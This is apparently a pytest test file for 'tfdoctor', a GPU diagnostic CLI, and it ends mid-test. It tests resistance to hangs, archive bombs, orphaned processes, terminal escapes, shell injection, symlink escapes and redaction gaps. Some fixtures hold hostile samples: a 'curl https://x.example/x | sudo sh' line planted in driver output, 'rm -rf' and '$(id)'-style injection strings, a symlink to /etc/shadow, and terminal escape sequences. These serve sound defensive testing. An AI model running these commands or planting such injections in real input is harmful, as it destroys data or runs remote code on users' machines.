"""Hostile input, faults and interrupts (issue 10): one section per class of failure found by trying tfdoctor the way
an attacker and a careless user would. Each test failed before the change it protects.

1. hangs that --timeout cannot stop        5. fix-nouveau outside its root, losing the admin's file
2. unbounded memory and disk               6. redaction gaps, and redaction that corrupts facts
3. orphans                                 7. input validation and error wording
4. terminal and shell injection            (8, the flaky suite, is fixed in tests/conftest.py)

Time bounds here are generous (a loaded 2-core CI machine): they tell "returns" from "hangs", nothing finer; the
exact figures (T + 1 s, exit within 1 s) are measured by benchmarks/hostile.py.
"""

from __future__ import annotations

import io
import json
import os
import signal
import stat
import tarfile
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests import hostile as h
from tfdoctor import proc
from tfdoctor.cli import app
from tfdoctor.host import LiveHost, RecordingHost, ReplayHost, SnapshotError
from tfdoctor.redact import Redactor

runner = CliRunner()
QUADRO = h.SNAPSHOTS / "quadro-p2000-no-driver"
SLACK_S = 20  # "returns" rather than "hangs": far above what any of these takes on an idle machine


# =====================================================================================================================
# 1. Hangs that --timeout cannot stop
# =====================================================================================================================

def test_a_fifo_in_a_snapshot_directory_is_not_read(tmp_path):
    snap = h.snapshot_dir(tmp_path / "s", {"commands/uname_-r": "6.8.0-31-generic\n"})
    for rel in ("commands/lspci_-nnk", "files/etc/os-release", "files/proc/cpuinfo", "env.json"):
        (snap / rel).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(snap / rel)
    res = h.tfdoctor("check", "--from", str(snap), "--no-tf", "--json", timeout=60)
    assert res.seconds < SLACK_S, res
    assert res.rc == 2 and "env.json is not a readable regular file" in res.stderr  # a FIFO is refused, not waited on
    os.unlink(snap / "env.json")
    res = h.tfdoctor("check", "--from", str(snap), "--no-tf", "--json", timeout=60)
    assert res.rc in (0, 1) and res.seconds < SLACK_S, res
    assert json.loads(res.stdout)["schema_version"] == 2


def test_reads_refuse_fifos_and_devices_without_opening_them(tmp_path):
    from tfdoctor.host import read_regular

    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    t0 = time.monotonic()
    assert read_regular(fifo) is None
    assert read_regular("/dev/zero") is None
    assert LiveHost().read(str(fifo)) is None and LiveHost().read("/dev/zero") is None
    assert time.monotonic() - t0 < SLACK_S


def test_a_fifo_in_a_root_image_does_not_block_fix_nouveau_dry_run(tmp_path):
    root = tmp_path / "image"
    (root / "etc" / "modprobe.d").mkdir(parents=True)
    os.mkfifo(root / "etc" / "os-release")
    os.mkfifo(root / "etc" / "modprobe.d" / "nouveau.conf")
    (root / "proc").mkdir()
    os.mkfifo(root / "proc" / "modules")
    res = h.tfdoctor("fix-nouveau", "--root", str(root), "--dry-run", timeout=60)
    assert res.seconds < SLACK_S and res.rc == 0, res
    assert "Would write" in res.stdout


def test_probe_commands_end_at_the_checks_deadline_and_leave_nothing(tmp_path):
    bin_dir = h.stand_in_bin(tmp_path / "bin", h.FORK_AND_HANG)
    res = h.tfdoctor("check", "--no-tf", "--quiet", "--timeout", "3", env=h.env_with(bin_dir), timeout=60)
    assert res.rc in (0, 1) and res.seconds < 3 + SLACK_S, res
    assert h.leftovers(bin_dir) == []


def test_grandchildren_holding_stdout_do_not_hold_the_run(tmp_path):
    bin_dir = h.stand_in_bin(tmp_path / "bin", h.FORK_AND_HOLD, tools=("holder",))
    t0 = time.monotonic()
    res = LiveHost().run([str(bin_dir / "holder")], timeout=60)
    assert time.monotonic() - t0 < SLACK_S
    assert res.rc == 0 and res.stdout == "started\n" and not res.timed_out
    assert h.leftovers(bin_dir) == []  # the one that called setsid too


def test_the_watchdog_kills_child_groups_and_removes_temporary_files(tmp_path):
    """A check stuck in a call that never returns: the watchdog ends the run, after killing the stand-in a probe
    started and removing the snapshot archive's extraction."""
    bin_dir = h.stand_in_bin(tmp_path / "bin", h.HANG, tools=("stuck-tool",))
    prog = tmp_path / "stuck_tfdoctor.py"
    prog.write_text(f"""
import sys, time
sys.path.insert(0, {str(h.ROOT)!r})
from tfdoctor import catalogue
from tfdoctor.checks import check
from tfdoctor.model import ok
from tfdoctor.probes import probe
catalogue.entries()

@probe("stuckprobe", timeout=300)
def stuckprobe(host, ctx):
    import threading
    from tfdoctor.host import LiveHost
    threading.Thread(target=lambda: LiveHost().run([{str(bin_dir / "stuck-tool")!r}], timeout=300), daemon=True).start()
    return {{}}

@check("system.stuck", title="Stuck", area="system", needs=("stuckprobe",), what="w", why="y", fix="f")
def check_stuck(facts):
    time.sleep(3600)

from tfdoctor.cli import main
main()
""")
    tgz = tmp_path / "snap.tar.gz"
    with tarfile.open(tgz, "w:gz") as tar:
        tar.add(QUADRO, arcname="q")
    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    import subprocess
    import sys

    t0 = time.monotonic()
    p = subprocess.run([sys.executable, str(prog), "check", "--only", "system.stuck", "--from", str(tgz),
                        "--timeout", "3"], env=h.env_with(TMPDIR=tmpdir), capture_output=True, text=True,
                       timeout=120, start_new_session=True)
    assert time.monotonic() - t0 < 3 + SLACK_S
    assert p.returncode == 1 and "did not finish within 3 s" in p.stderr
    assert h.temp_dirs(tmpdir) == []
    # the replay host runs no command, so the stand-in here is started by the probe's own LiveHost
    assert h.leftovers(bin_dir) == []


# =====================================================================================================================
# 2. Unbounded memory and disk
# =====================================================================================================================

def test_a_flooding_tool_is_cut_at_its_cap_while_reading(tmp_path):
    bin_dir = h.stand_in_bin(tmp_path / "bin", h.FLOOD, tools=("flood",))
    res = LiveHost().run([str(bin_dir / "flood")], timeout=60)
    assert res.truncated and len(res.stdout) <= 4 * 1024 * 1024 and res.stdout.count("\n") <= 20_000
    assert h.leftovers(bin_dir) == []
    bin_dir = h.stand_in_bin(tmp_path / "bin2", h.FLOOD_NO_NEWLINE, tools=("flood",))
    res = LiveHost().run([str(bin_dir / "flood")], timeout=60)
    assert res.truncated and len(res.stdout) == 16 * 1024  # one endless line: cut at MAX_LINE_CHARS


def test_check_against_flooding_tools_stays_under_300_mb(tmp_path):
    bin_dir = h.stand_in_bin(tmp_path / "bin", h.FLOOD)
    res = h.tfdoctor("check", "--no-tf", "--json", "--timeout", "20", env=h.env_with(bin_dir), timeout=120,
                     measure_rss=True)
    assert res.rc in (0, 1), res
    assert res.peak_rss_mb is not None and res.peak_rss_mb < 300, res.peak_rss_mb
    assert "MemoryError" not in res.stderr and "Traceback" not in res.stderr
    assert h.leftovers(bin_dir) == []


def test_an_endlessly_printing_interpreter_is_stopped(tmp_path):
    from tfdoctor.child.runner import MAX_STDOUT, run_child

    python = tmp_path / "python"
    python.write_text("#!/bin/bash\nyes '{\"not\": \"json\"}' & yes 'log line' >&2 & wait\n")
    python.chmod(0o755)
    res = run_child(str(python), "script.py", [], timeout=60)
    assert res.how == "garbage" and len(res.stdout) <= MAX_STDOUT
    assert h.leftovers(tmp_path) == []


def test_an_archive_member_of_4_gib_is_refused_from_its_header(tmp_path, monkeypatch):
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", None)
    bomb = h.tarbomb(tmp_path / "bomb.tar.gz")
    assert bomb.stat().st_size < 64 * 1024
    with pytest.raises(SnapshotError, match="at most 16 MiB"):
        ReplayHost(bomb)
    assert h.temp_dirs(tmp_path) == []


def test_an_archive_of_too_many_members_is_refused_and_nothing_stays(tmp_path, monkeypatch):
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", None)
    t0 = time.monotonic()
    with pytest.raises(SnapshotError, match="more than 10000 members"):
        ReplayHost(h.many_members(tmp_path / "many.tar.gz", 20_001))
    assert time.monotonic() - t0 < SLACK_S
    assert h.temp_dirs(tmp_path) == []


def test_a_rejected_archive_leaves_no_partial_extraction(tmp_path, monkeypatch):
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", None)
    link = tarfile.TarInfo("files/etc/os-release")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/shadow"
    bad = h.raw_tar_gz(tmp_path / "bad.tar.gz", [h.manifest_member(), h.member("files/a", b"x" * 1000), (link, None)])
    with pytest.raises(SnapshotError, match="holds a link"):
        ReplayHost(bad)
    assert h.temp_dirs(tmp_path) == []
    with pytest.raises(SnapshotError, match="time limit"):
        ReplayHost(h.raw_tar_gz(tmp_path / "ok.tar.gz", [h.manifest_member()]), deadline=time.monotonic() - 1)
    assert h.temp_dirs(tmp_path) == []


def test_a_pax_header_claiming_gigabytes_is_not_read_into_memory(tmp_path):
    """A pax header of 2 GiB followed by 512 MiB of zeros (a few hundred KB compressed): tarfile reads a pax header
    whole, so without a budget on the stream it sits in memory before any member is seen."""
    import gzip

    pax = tarfile.TarInfo("././@PaxHeader")
    pax.type = tarfile.XHDTYPE
    pax.size = 2 << 30
    path = tmp_path / "pax.tar.gz"
    zeros = b"\0" * (1 << 20)
    with gzip.open(path, "wb", compresslevel=1) as fh:
        fh.write(pax.tobuf(format=tarfile.USTAR_FORMAT))
        for _ in range(512):
            fh.write(zeros)
    res = h.tfdoctor("check", "--from", str(path), "--no-tf", measure_rss=True, timeout=120)
    assert res.rc == 2 and len(res.stderr.strip().splitlines()) == 1, res.stderr
    assert res.peak_rss_mb < 300, res.peak_rss_mb


def test_an_extraction_is_removed_by_the_cleanup_of_an_interrupt(tmp_path):
    host = ReplayHost(h.raw_tar_gz(tmp_path / "s.tar.gz", [h.manifest_member()]))
    extracted = host._tmp
    assert extracted and os.path.isdir(extracted)
    proc.cleanup(final=False)  # what SIGINT, SIGTERM and the watchdog run
    assert not os.path.exists(extracted)


# =====================================================================================================================
# 3. Orphans
# =====================================================================================================================

def _standin_python(tmp_path: Path) -> Path:
    """An "interpreter" that hangs like TensorFlow in cuInit, ignoring SIGTERM, with a grandchild of its own."""
    python = tmp_path / "standin-python"
    python.write_text(h.FORK_AND_HANG)
    python.chmod(0o755)
    return python


@pytest.mark.parametrize(("sig", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_an_interrupted_check_kills_the_tensorflow_child_and_says_interrupted(tmp_path, sig, code):
    python = _standin_python(tmp_path)
    p = h.start("check", "--python", str(python), "--tf-timeout", "120", "--timeout", "200")
    assert h.wait_for_process(python), "the TensorFlow child did not start"
    rc, err, seconds = h.interrupt(p, sig)
    assert (rc, err.strip().splitlines()[-1:]) == (code, ["tfdoctor: interrupted"]), err
    assert seconds < SLACK_S
    assert h.leftovers(tmp_path) == []


def test_an_interrupted_bench_kills_its_child(tmp_path):
    python = _standin_python(tmp_path)
    p = h.start("bench", "--python", str(python), "--device", "cpu", "--timeout", "200")
    assert h.wait_for_process(python), "the bench child did not start"
    rc, err, seconds = h.interrupt(p)
    assert rc == 130 and "tfdoctor: interrupted" in err and seconds < SLACK_S, err
    assert h.leftovers(tmp_path) == []


def test_the_live_check_leaves_no_stand_in_behind_after_a_normal_end(tmp_path):
    bin_dir = h.stand_in_bin(tmp_path / "bin", h.HANG, tools=("nvidia-smi", "nvidia-debugdump"))
    res = h.tfdoctor("check", "--no-tf", "--quiet", "--timeout", "4", env=h.env_with(bin_dir), timeout=60)
    assert res.rc in (0, 1)
    assert h.leftovers(bin_dir) == []


def test_a_child_started_after_the_cleanup_is_never_started():
    saved = proc._closing
    try:
        proc._closing = True
        ran = proc.run_bounded(["true"], 5, stdout_caps=proc.Caps(100), stderr_caps=proc.Caps(100))
        assert ran.error is not None and ran.rc is None
    finally:
        proc._closing = saved


# =====================================================================================================================
# 4. Terminal and shell injection
# =====================================================================================================================

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[8mhidden\x1b[0m\x9b31m\u202eevil\r"


def _evil_snapshot(tmp_path: Path, gpu_record: bool = True) -> Path:
    snap = h.copy_fixture("quadro-p2000-no-driver", tmp_path / "evil")
    osr = snap / "files/etc/os-release"
    osr.parent.mkdir(parents=True, exist_ok=True)
    osr.write_text(f'NAME="Ubuntu"\nID=ubuntu\nID_LIKE=debian\nPRETTY_NAME="Ubuntu {ESCAPES} LTS"\n')
    lspci = snap / "commands" / "lspci_-nnk"
    if lspci.exists():
        lspci.write_text(lspci.read_text().replace("Quadro P2000", f"Quadro P2000 {ESCAPES}"))
    nvsmi = snap / "commands" / "nvidia-smi"
    nvsmi.write_text(f"NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver. {ESCAPES}\n")
    if gpu_record:
        _evil_nvml(snap)
    ud = snap / "commands" / "ubuntu-drivers_devices"
    ud.write_text(ud.read_text().replace(
        "driver   : nvidia-driver-470 - distro non-free recommended",
        "driver   : nvidia-driver-470 && curl -fsSL https://x.example/x | sudo sh \x1b[8m - distro non-free recommended"))
    return snap


def _evil_kernel_snapshot(tmp_path: Path) -> Path:
    """A kernel release with escapes, which failing findings name in their one-line summaries (--quiet)."""
    snap = h.copy_fixture("dkms-not-built", tmp_path / "evil-kernel")
    (snap / "commands" / "uname_-r").write_text(f"3.13.0-116-generic{ESCAPES}\n")
    return snap


def _evil_nvml(snap: Path) -> None:
    """A GPU whose name carries escapes and a lone surrogate (JSON can hold one), reaching Prometheus labels."""
    (snap / "nvml.json").write_text(json.dumps({
        "version": 1, "init": {"ok": True}, "driver_version": "535.104.05", "cuda_driver_version": 12020,
        "device_count": 1, "field_errors": {},
        "gpus": [{"index": 0, "name": f"Quadro \ud800 {ESCAPES}", "pci_bus_id": "00000000:65:00.0",
                  "temperature_c": 40, "memory_total_mib": 5120, "memory_used_mib": 1}]}))
    (snap / "commands" / "uname_-r").write_text(f"5.4.0-150-generic{ESCAPES}\n")


RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r", "\ud800")


def _clean(text: str) -> bool:
    return not any(c in text for c in RAW_CONTROLS)


@pytest.mark.parametrize("evil", [_evil_snapshot, _evil_kernel_snapshot])
@pytest.mark.parametrize("fmt", [[], ["-v"], ["--quiet"], ["--markdown"], ["--format", "junit"],
                                 ["--format", "prometheus"]])
def test_no_terminal_escape_from_a_snapshot_reaches_a_report(tmp_path, fmt, evil):
    snap = evil(tmp_path)
    res = runner.invoke(app, ["check", "--from", str(snap), "--no-tf", *fmt])
    assert res.exit_code in (0, 1), res.output
    assert _clean(res.stdout), [c for c in RAW_CONTROLS if c in res.stdout]
    if fmt == ["-v"] or (fmt == ["--quiet"] and evil is _evil_kernel_snapshot) or (
            fmt == ["--format", "prometheus"] and evil is _evil_snapshot):
        assert "x1b]0;pwned" in res.stdout and "x07" in res.stdout  # shown escaped, not silently dropped


def test_a_shell_command_in_ubuntu_drivers_output_never_becomes_a_fix(tmp_path):
    snap = _evil_snapshot(tmp_path, gpu_record=False)
    res = runner.invoke(app, ["check", "--from", str(snap), "--no-tf", "--json"])
    doc = json.loads(res.stdout)
    commands = [c for f in doc["findings"] if f["fix"] for c in f["fix"]["commands"]]
    assert commands and not [c for c in commands if "curl" in c or "&&" in c.split("#")[0] and "x.example" in c]
    rec = {f["id"]: f for f in doc["findings"]}["driver.recommended"]
    assert any("suspicious value" in d and "not used in a command" in d for d in rec["details"])


@pytest.mark.parametrize(("shape", "good", "bad"), [
    ("package", ["nvidia-driver-535", "libnvidia-compute-535-server", "g++-12", "linux-modules-nvidia-550-generic"],
     ["nvidia-driver-470 && curl -fsSL https://x.example/x | sudo sh", "Nvidia", "-x", "a;b", "a b", "$(id)", ""]),
    ("kernel_release", ["6.8.0-45-generic", "5.15.153.1-microsoft-standard-WSL2", "4.18.0-513.el8_9.x86_64"],
     ["6.8.0$(reboot)", "6.8.0 ; rm -rf /", "`id`", "-6.8"]),
    ("version", ["535.104.05", "1:535.104.05-0ubuntu1", "8.9.7.29-1+cuda12.2"], ["535;id", "535 x", "v535"]),
    ("path", ["/etc/modprobe.d/blacklist-nvidia.conf", "/var/lib/shim-signed/mok/MOK.der"],
     ["/etc/x y.conf", "/etc/$(id).conf", "relative/x", "/etc/../x", "/etc/x\nrm"]),
])
def test_the_validator_takes_only_strict_shapes(shape, good, bad):
    from tfdoctor import safe

    check = getattr(safe, shape)
    with safe.collecting() as refused:
        assert [check(v) for v in good] == good
        assert [check(v) for v in bad] == [None] * len(bad)
    assert [v for v, _ in refused] == [v for v in bad if v]


def test_bench_shows_device_names_from_the_child_escaped(monkeypatch, capsys):
    """A stand-in interpreter's bench child names its devices with escapes: the bench report shows them escaped."""
    from tests.test_bench_results import _device, _doc
    from tfdoctor.bench import command as bench_command
    from tfdoctor.child import runner as child_runner

    doc = _doc(_device("/CPU:0", f"EPYC {ESCAPES}", 40.0))
    done = child_runner.ChildResult("ok", 0, None, None, json.dumps(doc), "", 1.0, doc)
    monkeypatch.setattr(child_runner, "run_child", lambda *a, **k: done)
    monkeypatch.setattr(bench_command, "collect_nvml_live", lambda: None)
    res = runner.invoke(app, ["bench", "--device", "cpu"])
    assert res.exit_code == 0, res.output
    assert _clean(res.stdout) and "\\x1b]0;pwned" in res.stdout


def test_fix_commands_are_one_line_whatever_the_machine_printed(tmp_path):
    from tfdoctor.model import Finding, Fix, Report, Status
    from tfdoctor.report import console

    f = Finding("driver.dkms", Status.FAIL, "x", fix=Fix("y", ("sudo apt install foo   # keep driver 1\nrm -rf ~",)))
    out = io.StringIO()
    console.render(Report([f]), file=out)
    assert "\nrm -rf ~" not in out.getvalue() and "\\x0arm -rf ~" in out.getvalue()


# =====================================================================================================================
# 5. fix-nouveau writes outside its root, and can lose the admin's file
# =====================================================================================================================

@pytest.fixture
def image(tmp_path, monkeypatch):
    """A minimal Ubuntu image with the NVIDIA module, nouveau loaded, and a stand-in update-initramfs and chroot."""
    from tests.test_fix_nouveau import make_root
    from tfdoctor.fix import command as fix_command

    monkeypatch.setattr(fix_command, "_euid", lambda: 0)
    bindir = tmp_path / "bin"
    log = tmp_path / "calls.log"
    bindir.mkdir()
    (bindir / "chroot").write_text(f'#!/bin/sh\nprintf "chroot %s\\n" "$*" >> "{log}"\nroot=$1; shift; tool=$1; shift\n'
                                   'exec "$root$tool" "$@"\n')
    (bindir / "chroot").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ.get('PATH', '')}")
    return make_root(tmp_path)


def fix(root, *args):
    return runner.invoke(app, ["fix-nouveau", "--root", str(root.path if hasattr(root, "path") else root), *args])


@pytest.mark.parametrize("link", ["etc", "etc/modprobe.d"])
def test_an_absolute_symlink_in_the_image_is_resolved_inside_the_root(tmp_path, image, link):
    outside = tmp_path / "host-etc"
    (outside / "modprobe.d").mkdir(parents=True)
    real = image.path / link
    moved = image.path / (link + ".real")
    real.rename(moved)
    inside_target = "/" + link + ".real"  # absolute, as an image's link is: it means <root>/<link>.real
    os.symlink(inside_target, real)
    before = sorted(os.walk(outside))
    res = fix(image, "--yes")
    assert res.exit_code == 0, res.output
    assert sorted(os.walk(outside)) == before  # the host's directory is untouched
    written = (moved / "modprobe.d" / "blacklist-nouveau.conf") if link == "etc" else (
        moved / "blacklist-nouveau.conf")
    assert written.read_text().startswith("# Written by tfdoctor fix-nouveau")


def test_a_target_that_is_a_symlink_to_a_file_outside_is_refused(tmp_path, image):
    secret = tmp_path / "shadow"
    secret.write_text("root:secret\n")
    secret.chmod(0o600)
    os.symlink(str(secret), image.p("etc/modprobe.d/blacklist-nouveau.conf"))
    res = fix(image, "--yes")
    assert res.exit_code == 1 and "symbolic link" in res.output and "Nothing was changed" in res.output
    assert secret.read_text() == "root:secret\n" and stat.S_IMODE(secret.stat().st_mode) == 0o600
    assert not image.p("etc/modprobe.d/blacklist-nouveau.conf.tfdoctor-backup").exists()


def test_os_release_symlinks_resolve_in_the_image(tmp_path):
    from tests.test_fix_nouveau import make_root
    from tfdoctor.fix import nouveau as nv

    r = make_root(tmp_path, distro="fedora")
    osr = r.p("etc/os-release")
    (r.p("usr/lib")).mkdir(parents=True, exist_ok=True)
    osr.rename(r.p("usr/lib/os-release"))
    os.symlink("/usr/lib/os-release", osr)  # absolute: the image's /usr/lib, never the host's
    state = nv.read_state(str(r.path))
    assert state.os_ids[0] == "fedora" and state.initramfs.name == "dracut"


def test_a_short_write_on_a_full_disk_keeps_the_admins_file(tmp_path, monkeypatch):
    """The initramfs step fails, and the disk fills up: every write from the third on is short (4 KiB), then fails.
    The admin's 7 KB file must come back whole, and "Rolled back" only be said when it did."""
    from tests.test_fix_nouveau import make_root
    from tfdoctor.fix import command as fix_command

    monkeypatch.setattr(fix_command, "_euid", lambda: 0)
    bindir = tmp_path / "bin"
    bindir.mkdir()
    (bindir / "chroot").write_text('#!/bin/sh\nroot=$1; shift; tool=$1; shift\nexec "$root$tool" "$@"\n')
    (bindir / "chroot").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ.get('PATH', '')}")
    image = make_root(tmp_path, tool_fails=True)
    target = image.p("etc/modprobe.d/blacklist-nouveau.conf")
    original = b"# the admin's 7 KB file\n" + b"options snd_hda_intel power_save=0\n" * 200
    target.write_bytes(original)
    real_write = os.write
    calls = []

    def full_disk(fd, data):
        calls.append(len(data))
        if len(calls) == 3:
            return real_write(fd, bytes(data[:4096]))
        if len(calls) > 3:
            raise OSError(28, "No space left on device")
        return real_write(fd, data)

    monkeypatch.setattr(proc.os, "write", full_disk)
    res = fix(image, "--yes")
    monkeypatch.undo()
    assert res.exit_code == 1
    assert target.read_bytes() == original
    if "Rolled back" not in res.output:
        assert image.p("etc/modprobe.d/blacklist-nouveau.conf.tfdoctor-backup").read_bytes() == original


def test_a_rollback_that_does_not_verify_is_not_reported_as_done(tmp_path, tmp_path_factory, monkeypatch):
    from tests.test_fix_nouveau import make_root
    from tfdoctor.fix import command as fix_command
    from tfdoctor.fix import nouveau as nv

    monkeypatch.setattr(fix_command, "_euid", lambda: 1000)  # no chroot: the initramfs step is skipped
    r = make_root(tmp_path)
    target = r.p("etc/modprobe.d/blacklist-nouveau.conf")
    target.write_bytes(b"# mine\n")
    state = nv.read_state(str(r.path))
    plan = nv.plan_blacklist(state, "0", euid=0)
    failing = nv.CommandResult(("update-initramfs",), 1, "", "E: broken")
    monkeypatch.setattr(nv.TargetDir, "rename", lambda self, a, b: (_ for _ in ()).throw(OSError(5, "I/O error")))
    out = nv.apply_blacklist(plan, runner=lambda argv, timeout: failing)
    assert not out.ok and out.error == "rollback"
    text = "\n".join(out.lines)
    assert "Rolled back:" not in text and "Rolling back failed" in text
    assert "kept as" in text and r.p("etc/modprobe.d/blacklist-nouveau.conf.tfdoctor-backup").read_bytes() == \
        b"# mine\n"


def test_undo_keeps_owner_mode_and_mtime(tmp_path, image):
    target = image.p("etc/modprobe.d/blacklist-nouveau.conf")
    target.write_bytes(b"# mine\n")
    os.chmod(target, 0o640)
    os.utime(target, ns=(1_600_000_000_000_000_000, 1_600_000_000_000_000_000))
    st = target.stat()
    assert fix(image, "--yes").exit_code == 0
    backup = image.p("etc/modprobe.d/blacklist-nouveau.conf.tfdoctor-backup")
    assert backup.stat().st_mtime_ns == st.st_mtime_ns and stat.S_IMODE(backup.stat().st_mode) == 0o640
    assert fix(image, "--undo", "--yes").exit_code == 0
    after = target.stat()
    assert (after.st_mtime_ns, after.st_uid, after.st_gid, stat.S_IMODE(after.st_mode)) == \
        (st.st_mtime_ns, st.st_uid, st.st_gid, 0o640)
    again = fix(image, "--undo", "--yes")
    assert again.exit_code == 0 and "nothing to undo" in again.output  # repeating --undo is not an error


def test_undo_does_not_drop_the_admins_later_edits(image):
    assert fix(image, "--yes").exit_code == 0
    target = image.p("etc/modprobe.d/blacklist-nouveau.conf")
    target.write_text(target.read_text() + "options nvidia NVreg_PreserveVideoMemoryAllocations=1\n")
    res = fix(image, "--undo", "--yes")
    assert res.exit_code == 1 and "edited after tfdoctor wrote it" in res.output and "--force" in res.output
    assert "NVreg_PreserveVideoMemoryAllocations" in target.read_text()
    assert fix(image, "--undo", "--yes", "--force").exit_code == 0
    assert not target.exists()


def test_two_runs_at_once_are_serialised(image, monkeypatch):
    from tfdoctor.fix import nouveau as nv

    monkeypatch.setattr(nv, "LOCK_WAIT_S", 0.3)
    with nv.locked(str(image.path)):
        res = fix(image, "--yes")
    assert res.exit_code == 1 and "another tfdoctor fix-nouveau is running" in res.output
    assert not image.p("etc/modprobe.d/blacklist-nouveau.conf").exists()


def test_a_root_that_is_a_symlink_to_slash_is_the_live_system(tmp_path, monkeypatch):
    from tfdoctor.fix import command as fix_command

    monkeypatch.setattr(fix_command, "_euid", lambda: 1000)
    os.symlink("/", tmp_path / "slash")
    res = fix(tmp_path / "slash", "--yes")
    assert res.exit_code == 2 and "needs root" in res.output


def test_stale_temporary_files_of_a_killed_run_are_removed(image):
    moddir = image.p("etc/modprobe.d")
    stale = moddir / ".blacklist-nouveau.conf.tfdoctor-999999999-deadbeef.tmp"
    stale.write_text("half written")
    assert fix(image, "--yes").exit_code == 0
    assert not stale.exists()
    assert sorted(os.listdir(moddir)) == ["blacklist-nouveau.conf"]


@pytest.mark.skipif(os.geteuid() != 0, reason="the initramfs step runs only as root")
def test_ctrl_c_during_the_initramfs_step_rolls_back(tmp_path):
    from tests.test_fix_nouveau import _script, make_root

    r = make_root(tmp_path)
    _script(r.p("usr/sbin/update-initramfs"), "trap '' TERM INT\nsleep 3600\n")
    bindir = tmp_path / "bin"
    _script(bindir / "chroot", 'root=$1; shift; tool=$1; shift\nexec "$root$tool" "$@"\n')
    target = r.p("etc/modprobe.d/blacklist-nouveau.conf")
    target.write_bytes(b"# mine\n")
    p = h.start("fix-nouveau", "--root", str(r.path), "--yes", env=h.env_with(bindir))
    assert h.wait_for_process(r.path / "usr/sbin/update-initramfs")
    rc, err, seconds = h.interrupt(p)
    assert rc == 130 and "Rolled back" in err and err.strip().endswith("tfdoctor: interrupted"), err
    assert target.read_bytes() == b"# mine\n"
    assert sorted(os.listdir(r.p("etc/modprobe.d"))) == ["blacklist-nouveau.conf"]
    assert h.leftovers(r.path) == []


# =====================================================================================================================
# 6. Redaction gaps, and redaction that corrupts facts
# =====================================================================================================================

@pytest.mark.parametrize(("text", "secret"), [
    ("/gpfs/home/alice7/run.py", "alice7"),
    ("/scratch/alice7/ckpt", "alice7"),
    ("/mnt/c/Users/alice7/Downloads", "alice7"),
    ("C:\\Users\\alice7\\AppData", "alice7"),
    ("CONDA_PREFIX=/opt/conda/envs/alice7-tf", "alice7"),
    ("Linux version 6.8.0 (alice7@buildbox) (gcc 13)", "alice7"),
    ("audit: user=alice7 uid=1000(alice7)", "alice7"),
    ("Jan 01 10:00:00 gpu07.corp.example kernel: NVRM: x", "corp.example"),
    ("GPU07 and gpu07-ib0", "gpu07"),
    ("GPU07 and gpu07-ib0", "GPU07"),
    ("Started server with target: grpc://10.1.2.3:8470", "10.1.2.3"),
    ("PING example.net (203.0.113.7) 56(84) bytes of data.", "203.0.113.7"),
    ("nameserver 198.51.100.53", "198.51.100.53"),
    ("inet6 fe80::1ff:fe23:4567:890a/64\n    inet6 2001:db8::42/64", "2001:db8::42"),
    ("HWaddr 52-54-00-12-34-56", "52-54-00-12-34-56"),
    ("Serial Number 1323520012345", "1323520012345"),
    ("boot id 0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0", "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"),
])
def test_redaction_closes_the_gaps(text, secret):
    out = Redactor(hostnames=("gpu07",)).learn(text)(text)
    assert secret not in out, out


@pytest.mark.parametrize("name", ["ubuntu", "nvidia", "debian"])
def test_a_host_named_like_a_distribution_or_module_does_not_change_the_diagnosis(name):
    plain = runner.invoke(app, ["check", "--from", str(QUADRO), "--no-tf", "--json"])
    from tfdoctor.api import raw_check
    from tfdoctor.host import open_snapshot
    from tfdoctor.report import json as json_report
    from tfdoctor.report import redact_report

    report = redact_report(raw_check(open_snapshot(QUADRO), snapshot=str(QUADRO), no_tf=True),
                           Redactor(hostnames=(name,)))
    named = json.loads(json_report.render(report))
    plain_doc = json.loads(plain.stdout)
    a = [(f["id"], f["status"], f["summary"]) for f in plain_doc["findings"]]
    b = [(f["id"], f["status"], f["summary"]) for f in named["findings"]]
    assert a == b
    assert named["facts"]["env"] == plain_doc["facts"]["env"]  # os-release's ID and ID_LIKE, word for word
    assert named["facts"]["pci"] == plain_doc["facts"]["pci"]
    assert Redactor(hostnames=(name,))(f"Jan 01 10:00:00 {name} kernel: NVRM: x") == \
        "Jan 01 10:00:00 <hostname> kernel: NVRM: x"


def test_versions_stay_what_they_are():
    text = ("nvidia-cudnn-cu12 9.3.0.75, nvidia-curand-cu12 10.3.6.82, TensorRT 10.0.1.6, driver 535.104.05, "
            "bus 0000:65:00.0, at 12:34:56, std::vector, serial console, serial8250: ttyS0")
    assert Redactor(hostnames=("gpu07",), users=("alice",))(text) == text


def test_tar_snapshots_name_no_user_or_group(tmp_path):
    host = RecordingHost()
    host.files["/etc/os-release"] = "ID=ubuntu\n"
    out = host.write_snapshot(tmp_path / "s.tar.gz", Redactor())
    with tarfile.open(out) as tar:
        members = tar.getmembers()
    assert members and {(m.uid, m.gid, m.uname, m.gname) for m in members} == {(0, 0, "", "")}


def test_a_planted_part_symlink_is_not_followed(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    os.symlink(victim, tmp_path / "s.tar.gz.part")
    host = RecordingHost()
    host.write_snapshot(tmp_path / "s.tar.gz", Redactor())
    assert victim.read_text() == "precious\n" and tarfile.is_tarfile(tmp_path / "s.tar.gz")


# =====================================================================================================================
# 7. Input validation and error wording
# =====================================================================================================================

@pytest.mark.parametrize("args", [["--timeout", "nan"], ["--timeout", "inf"], ["--timeout", "-1"], ["--timeout", "0"],
                                  ["--tf-timeout", "-5"], ["--tf-timeout", "inf"]])
def test_time_limits_must_be_finite_and_positive(args):
    res = runner.invoke(app, ["check", "--from", str(QUADRO), *args])
